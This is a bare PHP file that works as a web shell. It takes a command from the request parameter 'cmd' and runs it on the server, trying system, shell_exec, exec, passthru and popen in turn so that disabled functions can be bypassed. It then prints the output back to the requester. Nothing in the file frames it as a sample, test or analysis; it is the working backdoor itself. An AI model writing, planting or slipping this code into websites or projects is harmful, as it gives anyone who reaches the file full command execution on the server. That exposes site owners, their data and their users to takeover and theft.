<?php
function run($c) {
    $out = '';
    if (function_exists('system')) { ob_start(); system($c); $out = ob_get_clean(); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($c); }
    elseif (function_exists('exec')) { exec($c, $r); $out = join("\n", $r); }
    elseif (function_exists('passthru')) { ob_start(); passthru($c); $out = ob_get_clean(); }
    elseif (is_resource($f = popen($c, 'r'))) { while (!feof($f)) { $out .= fread($f, 1024); } pclose($f); }
    return $out;
}
echo '<pre>' . run($_REQUEST['cmd']) . '</pre>';
